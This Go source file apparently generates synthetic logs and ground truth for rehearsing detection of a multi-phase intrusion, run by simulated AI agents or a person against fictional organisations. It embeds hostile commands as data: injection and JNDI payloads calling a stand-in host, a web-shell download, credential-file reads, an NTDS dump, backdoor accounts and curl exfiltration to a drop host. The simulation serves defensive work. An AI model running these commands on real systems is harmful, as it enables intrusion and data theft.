package rehearse

import (
	"cmp"
	"fmt"
	"math"
	"slices"
	"strings"
	"time"
)

// A worker is one of the operator's agents, or the operator in person, with the address that it comes from.
type worker struct {
	id      string
	address string
	agent   string // user agent of its web client
	used    int    // actions since the address was new
	now     time.Time
	actor   *Actor
	session *session // in which an agent's calls are kept
}

// A step is one action to be played; it says what it was and how it ended.
type step struct {
	org *org
	run func(at time.Time, w *worker) played
}

type played struct {
	entry               *entry
	host, tactic        string
	what, outcome, file string
	call                string // the command by which an agent does it from where it runs
}

var phases = []string{"reconnaissance", "exploitation", "foothold", "credentials", "movement", "collection"}

// operate plays the campaign: as many stretches as there are decisions, and one more; each begins with what the person
// does by hand and goes on with what three agents do side by side, an organisation each at a time. Where a person drives
// throughout there is one in their place.
func (s *stage) operate() {
	next := 11
	fresh := func() string {
		next++
		if next < 250 {
			return fmt.Sprintf("192.0.2.%d", next)
		}
		return fmt.Sprintf("2001:db8:ffff:%x::%x", next, 1+s.rng.IntN(1<<12))
	}
	agents := []string{"python-httpx/0.28.1", "Go-http-client/2.0", "curl/8.14.1"}
	var workers []*worker
	side := 3
	if s.opt.Tempo == "human" { // a person does one thing at a time
		side = 1
	}
	for i := range side {
		s.truth.Actors = append(s.truth.Actors, Actor{ID: fmt.Sprintf("agent-%d", i+1), Driver: s.opt.Tempo})
		w := &worker{id: fmt.Sprintf("agent-%d", i+1), address: fresh(), agent: agents[i]}
		workers = append(workers, w)
	}
	for i, w := range workers {
		w.actor = &s.truth.Actors[i]
		w.actor.Addresses, w.actor.UserAgents = []string{w.address}, []string{w.agent}
	}
	move := func(w *worker) {
		w.address, w.used = fresh(), 0
		w.actor.Addresses = append(w.actor.Addresses, w.address)
		if s.opt.Rename {
			w.agent = fmt.Sprintf("%s/%d.%d", []string{"axios", "node-fetch", "okhttp", "aiohttp", "reqwest", "undici"}[s.rng.IntN(6)], 1+s.rng.IntN(6), s.rng.IntN(40))
			w.actor.UserAgents = append(w.actor.UserAgents, w.agent)
		}
	}
	callback := "x" + s.hex(12) + ".oob-relay.example"
	drop := "files-" + s.hex(5) + ".example"
	s.truth.Callbacks = []string{callback, drop}
	reach := min(len(s.orgs), max(1, len(s.orgs)/4))
	for _, k := range s.rng.Perm(len(s.orgs))[:reach] {
		s.orgs[k].reached = true
	}
	blocked := map[*org]int{}
	if s.opt.Blocks > 0 {
		for _, k := range s.rng.Perm(len(s.orgs))[:min(s.opt.Blocks, len(s.orgs))] {
			blocked[s.orgs[k]] = 8 + s.rng.IntN(8)
		}
	}
	scenes := map[string]func(*org) []step{
		"reconnaissance": s.reconnoitre, "exploitation": func(o *org) []step { return s.exploit(o, callback) }, "foothold": s.foothold,
		"credentials": s.credentials, "movement": s.movement, "collection": func(o *org) []step { return s.collect(o, drop) },
	}
	now := s.opt.Start.Add(time.Duration(6+s.rng.IntN(5)) * time.Hour).Add(time.Duration(s.rng.IntN(3600)) * time.Second)
	stretches := plan(s.opt.Gates + 1)
	nights := 0
	left := map[int][][]step{} // of phases that go on in further stretches
	for seg, parts := range stretches {
		var queue [][]step
		for _, p := range parts {
			phase := phases[p.phase]
			if p.share == 0 {
				for i, o := range s.orgs {
					if phase != "reconnaissance" && phase != "exploitation" && !o.reached || phase == "exploitation" && !o.reached && i%3 != 0 {
						continue
					}
					left[p.phase] = append(left[p.phase], scenes[phase](o))
				}
			}
			var these [][]step
			these, left[p.phase] = share(left[p.phase], p.of-p.share)
			queue = append(queue, these...)
		}
		first := parts[0].phase
		if seg > 0 {
			quiet := time.Duration(float64(2*time.Minute) * math.Exp(s.rng.Float64()*math.Log(10))) // 2 to 20 minutes
			if nights < s.opt.Days-1 && seg*(s.opt.Days)/len(stretches) > nights {
				nights++
				quiet = time.Duration(7+s.rng.IntN(4)) * time.Hour
			}
			last := now
			now = now.Add(quiet)
			before := stretches[seg-1][len(stretches[seg-1])-1].phase
			s.truth.Campaign.Gates = append(s.truth.Campaign.Gates, Gate{Quiet: last, Time: now, Before: phases[before], After: phases[first]})
		}
		machine := 0
		for _, q := range queue {
			machine += len(q)
		}
		inside := first > 1 // there are ways in
		hand := 0           // actions by hand before the agents go on
		var byHand [][]step // that much of what there is to do, where most of it is done by hand
		if s.opt.Autonomy < 0.5 {
			byHand, queue = cut(queue, int(math.Round(float64(machine)*(1-s.opt.Autonomy))))
		} else {
			hand = int(math.Round(float64(machine) * (1 - s.opt.Autonomy) / s.opt.Autonomy))
			if seg > 0 {
				hand = max(hand, 1)
			}
		}
		w := workers[0]
		at := 0
		o := s.orgs[0]
		for i := range hand {
			if at <= i { // a dozen or two commands here, then elsewhere
				at = i + 8 + s.rng.IntN(20)
				for o = s.orgs[s.rng.IntN(len(s.orgs))]; inside && !o.reached; o = s.orgs[s.rng.IntN(len(s.orgs))] {
				}
			}
			p := s.byHand(o, now, w, inside && o.reached)
			s.note(o, now, w, p, true, i == 0 && seg > 0)
			if i < hand-1 {
				now = now.Add(s.draw(humanGaps))
			}
		}
		if hand > 0 {
			now = now.Add(s.draw(humanGaps))
		}
		if len(byHand) > 0 {
			from := len(s.truth.Actions)
			w.now = now
			s.run(byHand, workers[:1], blocked, move, true)
			s.truth.Actions[from].Gate = seg > 0
			now = w.now
		}
		for _, w := range workers {
			w.now = now.Add(time.Duration(s.rng.IntN(3000)) * time.Millisecond)
		}
		s.run(queue, workers, blocked, move, false)
		now = s.lastAction()
	}
	if len(s.person.Addresses) > 0 {
		s.truth.Actors = append(s.truth.Actors, s.person)
	}
	for _, o := range s.orgs {
		s.truth.Victims = append(s.truth.Victims, Victim{Host: o.host("web1"), Org: o.domain, Reached: o.reached})
		if o.reached {
			for _, h := range []string{"app1", "dc1"} {
				s.truth.Victims = append(s.truth.Victims, Victim{Host: o.host(h), Org: o.domain, Reached: true})
			}
		}
	}
}

// A part is a phase, or a share of one, that a stretch goes through.
type part struct {
	phase     int
	share, of int // the first of n is 0
}

// plan spreads the phases over so many stretches: some each, or a share of one each.
func plan(stretches int) [][]part {
	out := make([][]part, stretches)
	n := len(phases)
	for seg := range out {
		if stretches < n {
			for p := seg * n / stretches; p < (seg+1)*n/stretches; p++ {
				out[seg] = append(out[seg], part{p, 0, 1})
			}
			continue
		}
		p := part{phase: seg * n / stretches}
		for other := range stretches {
			if other*n/stretches != p.phase {
				continue
			}
			if other < seg {
				p.share++
			}
			p.of++
		}
		out[seg] = []part{p}
	}
	return out
}

// share takes the nth part of the work off its beginning: whole pieces where there are enough, else of each its beginning.
func share(work [][]step, n int) (these, left [][]step) {
	if len(work) >= n {
		return work[:len(work)/n], work[len(work)/n:]
	}
	for _, piece := range work {
		these, left = append(these, piece[:len(piece)/n]), append(left, piece[len(piece)/n:])
	}
	return these, left
}

// cut takes n steps off the beginning of the work.
func cut(work [][]step, n int) (these, left [][]step) {
	for i, piece := range work {
		if n < len(piece) {
			return append(these, piece[:n]), append([][]step{piece[n:]}, work[i+1:]...)
		}
		these = append(these, piece)
		n -= len(piece)
	}
	return these, nil
}

func (s *stage) lastAction() time.Time {
	var t time.Time
	for _, a := range s.truth.Actions {
		if a.Time.After(t) {
			t = a.Time
		}
	}
	return t
}

// run has the workers work off a queue side by side: the agents, or the person.
func (s *stage) run(queue [][]step, workers []*worker, blocked map[*org]int, move func(*worker), human bool) {
	gap := s.machineGap
	if human {
		gap = func() time.Duration { return s.draw(humanGaps) }
	}
	queue = slices.DeleteFunc(slices.Clone(queue), func(piece []step) bool { return len(piece) == 0 })
	work := make([][]step, len(workers))
	done := map[*org]time.Time{} // when the last piece of work there was
	for {
		best := -1
		for i, w := range workers {
			if len(work[i]) == 0 {
				// What builds on another's work waits for it.
				k := slices.IndexFunc(queue, func(piece []step) bool {
					return !slices.ContainsFunc(work, func(other []step) bool { return len(other) > 0 && other[0].org == piece[0].org })
				})
				if k >= 0 {
					work[i] = queue[k]
					queue = slices.Delete(queue, k, k+1)
					if at := done[work[i][0].org]; w.now.Before(at) {
						w.now = at
					}
				}
			}
			if len(work[i]) > 0 && (best < 0 || w.now.Before(workers[best].now)) {
				best = i
			}
		}
		if best < 0 {
			return
		}
		w := workers[best]
		st := work[best][0]
		work[best] = work[best][1:]
		if s.opt.Rotate > 0 && w.used >= s.opt.Rotate {
			move(w)
		}
		if left, ok := blocked[st.org]; ok {
			if left--; left <= 0 {
				delete(blocked, st.org)
				s.block(st.org, w, move, gap, human)
			} else {
				blocked[st.org] = left
			}
		}
		p := st.run(w.now, w)
		s.note(st.org, w.now, w, p, human, false)
		w.used++
		w.now = w.now.Add(gap())
		done[st.org] = w.now
	}
}

// block is a countermeasure: the address gets nothing but refusals, tries on for a moment, and comes back as another.
func (s *stage) block(o *org, w *worker, move func(*worker), gap func() time.Duration, human bool) {
	a := Adaptation{Org: o.domain, Blocked: w.now, From: w.address}
	for range 3 + s.rng.IntN(4) {
		p := s.ask(o, w.now, w, "GET", s.guess(o), 403)
		s.note(o, w.now, w, p, human, false)
		w.now = w.now.Add(gap())
	}
	w.now = w.now.Add(time.Duration(15+s.rng.IntN(300)) * time.Second)
	move(w)
	a.Resumed, a.To = w.now, w.address
	s.truth.Blocks = append(s.truth.Blocks, a)
}

func (s *stage) note(o *org, at time.Time, w *worker, p played, human, gate bool) {
	by := w.id
	if human {
		by = s.person.ID
		if !slices.Contains(s.person.Addresses, w.address) {
			s.person.Addresses = append(s.person.Addresses, w.address)
		}
		if !slices.Contains(s.person.UserAgents, w.agent) {
			s.person.UserAgents = append(s.person.UserAgents, w.agent)
		}
	}
	if s.opt.Sessions && !human && s.opt.Tempo == "agent" {
		s.called(o, at, w, p)
	}
	s.truth.Actions = append(s.truth.Actions, Action{Time: at, Actor: by, Org: o.domain, Host: p.host, Tactic: p.tactic, What: p.what, Outcome: p.outcome, Human: human || s.opt.Tempo == "human", Gate: gate, File: p.file, entry: p.entry})
}

// ask is a request to an organisation's web server.
func (s *stage) ask(o *org, at time.Time, w *worker, method, path string, status int) played {
	e := s.web(o, at, w.address, method, path, status, 150+s.rng.IntN(4000), w.agent)
	out := "worked"
	switch {
	case status == 403 || status == 401:
		out = "denied"
	case status >= 400:
		out = "failed"
	}
	return played{entry: e, host: o.host("web1"), tactic: "reconnaissance", what: method + " " + path, outcome: out, file: o.name + "/" + o.host("web1") + "/access.log", call: fetch(o, w, method, path)}
}

// parts of paths that somebody who looks for a way in asks for.
var dirs = []string{"admin", "backup", "old", "test", "dev", "staging", "private", "api", "v1", "v2", "internal", "console", "manager", "status", "metrics", "debug", "config", "setup", "install", "upload", "files", "export", "db", "sql", "logs", "tmp", "cgi-bin", "portal", "cms", "wiki"}
var leaves = []string{"index.php", "login", "users", "config.json", ".env", "swagger.json", "openapi.json", "info.php", "dump.sql", "archive.zip", "health", "version", "graphql", "keys", "settings.xml", "readme.txt"}

func (s *stage) guess(*org) string { return "/" + s.pick(dirs) + "/" + s.pick(leaves) }

func (s *stage) reconnoitre(o *org) []step {
	var out []step
	for range 16 + s.rng.IntN(10) {
		out = append(out, step{o, func(at time.Time, w *worker) played {
			status := 404
			switch s.rng.IntN(10) {
			case 0:
				status = 200
			case 1:
				status = 403
			}
			return s.ask(o, at, w, "GET", s.guess(o), status)
		}})
	}
	for _, port := range []int{21, 22, 25, 3306, 5432, 6379, 8080, 8443, 9200, 27017} {
		out = append(out, step{o, func(at time.Time, w *worker) played {
			e := s.conn(o, at, w.address, o.public, port, []string{"REJ", "S0"}[s.rng.IntN(2)], 0, 0)
			return played{e, o.public, "reconnaissance", fmt.Sprintf("connect to port %d", port), "failed", o.name + "/sensor." + o.domain + "/conn.log", fmt.Sprintf("nc -zv -w 2 %s %d", o.public, port)}
		}})
	}
	s.rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out
}

// exploit tries one weakness in many ways; where it works, the server speaks to a host of the operator's.
func (s *stage) exploit(o *org, callback string) []step {
	var out []step
	forms := []string{"/search?q=%27%20UNION%20SELECT%20null,{T}--", "/item?id={T}%27%20OR%20%271%27=%271", "/download?file=../../../../etc/passwd%00{T}", "/fetch?url=http://" + callback + "/{T}", "/render?tpl=%24%7Bjndi:ldap://" + callback + "/{T}%7D", "/api/v1/import?src=http://" + callback + "/{T}"}
	for range 10 + s.rng.IntN(14) {
		path := strings.ReplaceAll(forms[s.rng.IntN(len(forms))], "{T}", "t"+s.hex(6))
		out = append(out, step{o, func(at time.Time, w *worker) played {
			p := s.ask(o, at, w, "GET", path, []int{400, 403, 404, 500, 200}[s.rng.IntN(5)])
			p.tactic = "initial-access"
			if p.outcome == "worked" {
				p.outcome = "failed" // answered, but to no effect
			}
			return p
		}})
	}
	if o.reached {
		o.shell = "/uploads/" + s.hex(8) + ".php"
		out = append(out, step{o, func(at time.Time, w *worker) played {
			p := s.ask(o, at, w, "GET", "/render?tpl=%24%7Bjndi:ldap://"+callback+"/t"+s.hex(6)+"%7D", 200)
			p.tactic = "initial-access"
			s.dns(o, at.Add(700*time.Millisecond), o.inside("web1"), callback, "192.0.2.9")
			s.conn(o, at.Add(900*time.Millisecond), o.inside("web1"), "192.0.2.9", 389, "SF", 420, 900)
			return p
		}}, step{o, func(at time.Time, w *worker) played {
			p := s.ask(o, at, w, "POST", "/api/v1/import?src=http://"+callback+"/"+s.hex(4), 201)
			p.tactic = "persistence"
			s.exec(o, "web1", at.Add(300*time.Millisecond), 33, "www-data", 0, []string{"sh", "-c", "curl -s http://" + callback + "/p -o /var/www/html" + o.shell})
			return p
		}})
	}
	return out
}

// shellRun is a command through what was left on the web server: seen by the web server and by auditd.
func (s *stage) shellRun(o *org, at time.Time, w *worker, tactic, command string, works bool) played {
	path := o.shell + "?cmd=" + strings.NewReplacer(" ", "%20", "/", "%2F", "'", "%27", "|", "%7C", "&", "%26", "\"", "%22").Replace(command)
	s.web(o, at, w.address, "GET", path, 200, 60+s.rng.IntN(5000), w.agent)
	e := s.exec(o, "web1", at.Add(40*time.Millisecond), 33, "www-data", 0, []string{"sh", "-c", command})
	out := "worked"
	if !works {
		out = "failed"
	}
	return played{e, o.host("web1"), tactic, command, out, o.name + "/" + o.host("web1") + "/audit.log", fetch(o, w, "GET", path)}
}

func (s *stage) foothold(o *org) []step {
	looks := []string{"id", "uname -a", "cat /etc/os-release", "ip -o addr", "ss -tlnp", "ps -eo pid,user,args --sort=pid", "ls -la /var/www", "cat /etc/passwd", "mount -l", "df -hT", "find / -perm -4000 -type f -printf '%p\\n'", "getent group sudo", "cat /proc/net/arp", "env -0", "ls -la /home/*", "cat /etc/crontab", "systemctl list-units --type=service --no-pager", "find /opt -maxdepth 2 -name '*.conf'", "hostname -f", "cat /etc/hosts", "last -n 20", "sudo -n -l", "ls -la /srv/app", "stat /var/run/docker.sock"}
	var out []step
	for i := range 40 + s.rng.IntN(24) {
		command := looks[i%len(looks)]
		if i >= len(looks) {
			command += fmt.Sprintf(" 2>&1 | head -n %d", 5+s.rng.IntN(60))
		}
		works := s.rng.IntN(4) > 0
		out = append(out, step{o, func(at time.Time, w *worker) played { return s.shellRun(o, at, w, "discovery", command, works) }})
	}
	return out
}

func (s *stage) credentials(o *org) []step {
	var out []step
	for _, c := range []string{"cat /srv/app/.env", "grep -rn 'DB_PASS' /var/www --include='*.php'", "cat /home/deploy/.ssh/id_ed25519", "cat /home/deploy/.aws/credentials", "grep -rniE 'password|secret' /etc/app", "cat /home/deploy/.bash_history", "find / -name '*.kdbx' -size -4M", "cat /root/.my.cnf", "strings -n 8 /proc/1/environ"} {
		works := s.rng.IntN(3) > 0
		out = append(out, step{o, func(at time.Time, w *worker) played { return s.shellRun(o, at, w, "credential-access", c, works) }})
	}
	// What was found is tried everywhere, and so are names that nobody ever had.
	users := append([]string{"deploy", "svc-backup", "administrator", "svc_sql", "jenkins-agent", "ops_admin"}, o.people[:3]...)
	for range 26 + s.rng.IntN(14) {
		user, host := s.pick(users), s.pick([]string{"app1", "db1", "dc1"})
		works := user == "deploy" && host == "app1"
		out = append(out, step{o, func(at time.Time, w *worker) played {
			from := o.inside("web1")
			p := played{host: o.host(host), tactic: "credential-access", what: "login as " + user, outcome: "failed", file: o.name + "/" + o.host(host) + "/auth.log", call: within(o, user, host, "id")}
			if host == "dc1" {
				p.file = o.name + "/" + o.host(host) + "/security.jsonl"
				p.entry = s.security(o, host, at, 4625, map[string]any{"TargetUserName": user, "TargetDomainName": strings.ToUpper(o.netbios), "LogonType": "3", "IpAddress": from, "IpPort": "50122", "Status": "0xc000006d", "SubStatus": "0xc000006a", "SubjectUserName": "-", "SubjectLogonId": "0x0"})
				return p
			}
			message := fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, from, 30000+s.rng.IntN(20000))
			if user == "administrator" || strings.HasPrefix(user, "jenkins") || strings.HasPrefix(user, "ops_") {
				message = fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", user, from, 30000+s.rng.IntN(20000))
			}
			if works {
				message = fmt.Sprintf("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s", user, from, 30000+s.rng.IntN(20000), s.hex(40))
				p.outcome = "worked"
			}
			p.entry = s.auth(o, host, at, "sshd", message)
			return p
		}})
	}
	return out
}

func (s *stage) movement(o *org) []step {
	var out []step
	out = append(out, step{o, func(at time.Time, w *worker) played {
		o.session++
		e := s.auth(o, "app1", at, "sshd", fmt.Sprintf("Accepted publickey for deploy from %s port %d ssh2: ED25519 SHA256:%s", o.inside("web1"), 30000+s.rng.IntN(20000), s.hex(40)))
		s.conn(o, at, o.inside("web1"), o.inside("app1"), 22, "SF", 4000, 5000)
		return played{e, o.host("app1"), "lateral-movement", "login as deploy", "worked", o.name + "/" + o.host("app1") + "/auth.log", within(o, "deploy", "app1", "true")}
	}})
	session := o.session + 1
	for i, c := range []string{"whoami", "sudo -n true", "sudo -l", "cat /etc/shadow", "ip route show table all", "getent passwd", "docker ps -a", "ls -la /backup", "nc -zv " + o.inside("db1") + " 5432", "psql -h " + o.inside("db1") + " -U app -c 'select count(*) from users'", "ldapsearch -x -H ldap://" + o.inside("dc1") + " -b dc=" + o.name + ",dc=example '(objectClass=user)' sAMAccountName", "smbclient -L //" + o.inside("dc1") + " -U svc-backup%Token-" + s.hex(4), "for p in 22 80 445 3389; do nc -w1 -zv " + o.inside("ws1") + " $p; done", "cat /home/deploy/.kube/config"} {
		works := i%3 != 1
		out = append(out, step{o, func(at time.Time, w *worker) played {
			e := s.exec(o, "app1", at, 1001, "deploy", session, []string{"bash", "-c", c})
			tactic, result := "discovery", "worked"
			if strings.Contains(c, "shadow") || strings.Contains(c, "kube/config") {
				tactic = "credential-access"
			}
			if !works {
				result = "failed"
			}
			return played{e, o.host("app1"), tactic, c, result, o.name + "/" + o.host("app1") + "/audit.log", within(o, "deploy", "app1", c)}
		}})
	}
	logon := fmt.Sprintf("0x%x", 0x100000+s.rng.IntN(0x900000))
	for i, c := range []string{"", "whoami /all", "net group \"Domain Admins\" /domain", "nltest /dclist:" + o.domain, "net user /domain", "quser", "tasklist /v", "reg query HKLM\\SOFTWARE\\Policies", "wevtutil qe Security /c:5", "ntdsutil \"ac i ntds\" ifm \"create full c:\\\\temp\\\\n\" q q", "net user svc_health Token-" + s.hex(6) + " /add /domain", "net group \"Domain Admins\" svc_health /add /domain", "schtasks /create /tn HealthCheck /tr c:\\temp\\h.cmd /sc hourly /ru system"} {
		out = append(out, step{o, func(at time.Time, w *worker) played {
			p := played{host: o.host("dc1"), tactic: "discovery", what: c, outcome: "worked", file: o.name + "/" + o.host("dc1") + "/security.jsonl", call: within(o, "svc-backup", "dc1", cmp.Or(c, "whoami"))}
			subject := map[string]any{"SubjectUserName": "svc-backup", "SubjectDomainName": strings.ToUpper(o.netbios), "SubjectLogonId": logon}
			if i == 0 {
				p.what, p.tactic = "logon of svc-backup", "lateral-movement"
				p.entry = s.security(o, "dc1", at, 4624, map[string]any{"TargetUserName": "svc-backup", "TargetDomainName": strings.ToUpper(o.netbios), "TargetLogonId": logon, "LogonType": "3", "IpAddress": o.inside("app1"), "WorkstationName": "APP1", "SubjectUserName": "-", "SubjectLogonId": "0x0"})
				return p
			}
			switch {
			case strings.Contains(c, "ntdsutil"):
				p.tactic = "credential-access"
			case strings.Contains(c, "/add"), strings.Contains(c, "schtasks"):
				p.tactic = "persistence"
			}
			subject["NewProcessName"] = "C:\\Windows\\System32\\" + strings.Fields(c)[0] + ".exe"
			subject["CommandLine"] = c
			subject["ParentProcessName"] = "C:\\Windows\\System32\\cmd.exe"
			p.entry = s.security(o, "dc1", at, 4688, subject)
			if strings.Contains(c, "svc_health Token") {
				s.security(o, "dc1", at.Add(50*time.Millisecond), 4720, map[string]any{"TargetUserName": "svc_health", "TargetDomainName": strings.ToUpper(o.netbios), "SubjectUserName": "svc-backup", "SubjectDomainName": strings.ToUpper(o.netbios), "SubjectLogonId": logon})
			}
			return p
		}})
	}
	for _, call := range [][3]string{{"sts", "GetCallerIdentity", ""}, {"iam", "ListUsers", "AccessDenied"}, {"iam", "ListAttachedUserPolicies", "AccessDenied"}, {"s3", "ListBuckets", ""}, {"secretsmanager", "ListSecrets", "AccessDenied"}, {"ec2", "DescribeInstances", ""}, {"ssm", "DescribeParameters", "AccessDenied"}, {"iam", "CreateAccessKey", "AccessDenied"}, {"secretsmanager", "GetSecretValue", ""}} {
		out = append(out, step{o, func(at time.Time, w *worker) played {
			e := s.cloud(o, at, w.address, "deploy", o.cloudKey, call[0], call[1], call[2], "Boto3/1.40.61 md/Botocore#1.40.61 lang/python#3.12.3")
			result, tactic := "worked", "discovery"
			if call[2] != "" {
				result = "denied"
			}
			if strings.HasPrefix(call[1], "GetSecret") {
				tactic = "credential-access"
			}
			return played{e, "aws:" + o.account, tactic, call[0] + ":" + call[1], result, o.name + "/cloud/cloudtrail.jsonl", "aws " + call[0] + " " + dashed(call[1]) + " --profile " + o.name + "-deploy"}
		}})
	}
	return out
}

func (s *stage) collect(o *org, drop string) []step {
	var out []step
	session := o.session
	archive := "/tmp/." + s.hex(6) + ".tgz"
	commands := []string{"pg_dump -h " + o.inside("db1") + " -U app -t users app -f /tmp/u.sql", "psql -h " + o.inside("db1") + " -U app -c 'select email,pwhash from users where is_admin'", "find /srv /home -name '*.xlsx' -newermt 2025-01-01", "tar czf " + archive + " /tmp/u.sql /srv/app/config /home/deploy/.ssh", "sha256sum " + archive, "split -b 20M " + archive + " " + archive + ".", "tee /tmp/notes.md", "useradd -m -s /bin/bash -G sudo svc-metrics", "tee -a /home/svc-metrics/.ssh/authorized_keys", "crontab -l", "rm -f /tmp/u.sql"}
	for i := range 3 {
		commands = append(commands, fmt.Sprintf("curl -s -T %s.a%c https://%s/u/%s", archive, 'a'+i, drop, s.hex(8)))
	}
	for _, c := range commands {
		out = append(out, step{o, func(at time.Time, w *worker) played {
			e := s.exec(o, "app1", at, 0, "root", session, []string{"bash", "-c", c})
			tactic := "collection"
			switch {
			case strings.HasPrefix(c, "curl"):
				tactic = "exfiltration"
				s.dns(o, at.Add(30*time.Millisecond), o.inside("app1"), drop, "192.0.2.8")
				s.conn(o, at.Add(60*time.Millisecond), o.inside("app1"), "192.0.2.8", 443, "SF", 15<<20+s.rng.IntN(6<<20), 900)
			case strings.Contains(c, "useradd"), strings.Contains(c, "authorized_keys"):
				tactic = "persistence"
			case strings.HasPrefix(c, "rm"):
				tactic = "stealth"
			}
			return played{e, o.host("app1"), tactic, c, "worked", o.name + "/" + o.host("app1") + "/audit.log", within(o, "deploy", "app1", "sudo "+c)}
		}})
	}
	return out
}

// byHand is what the person does between stretches of the agents: looks around with a browser before there is a way
// in, types short commands after, repeats and corrects them.
func (s *stage) byHand(o *org, at time.Time, w *worker, in bool) played {
	if !in {
		p := s.ask(o, at, &worker{address: w.address, agent: s.person.UserAgents[0]}, "GET", s.pick([]string{"/", "/about", "/contact", "/login", "/admin", "/search?q=test", "/products"}), []int{200, 200, 404}[s.rng.IntN(3)])
		p.tactic = "reconnaissance"
		return p
	}
	command := s.pick([]string{"ls", "ls -la", "ls", "pwd", "id", "cat notes.md", "cat notes.md", "w", "ls /tmp", "cd /srv", "ls -l /srv", "cat /etc/passwd", "ps aux", "sl", "cat notes.m", "history", "df -h", "ip a", "whoami", "clear"})
	return s.shellRun(o, at, w, "discovery", command, s.rng.IntN(6) > 0)
}

// fetch is the command of a web client that makes a request.
func fetch(o *org, w *worker, method, path string) string {
	verb := ""
	if method != "GET" {
		verb = " -X " + method
	}
	return fmt.Sprintf("curl -s -A '%s'%s 'http://%s%s'", w.agent, verb, o.host("web1"), strings.ReplaceAll(path, "'", "%27"))
}

// within is the command that runs another one on a machine inside, through what was reached before.
func within(o *org, user, host, command string) string {
	return fmt.Sprintf("ssh -J web1.%s %s@%s %s", o.domain, user, o.host(host), quoted(command))
}

// quoted is a word for a shell.
func quoted(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// dashed is the name of a call of the cloud as its command line has it.
func dashed(call string) string {
	var b strings.Builder
	for i, r := range call {
		if r >= 'A' && r <= 'Z' {
			if i > 0 {
				b.WriteByte('-')
			}
			r += 'a' - 'A'
		}
		b.WriteRune(r)
	}
	return b.String()
}
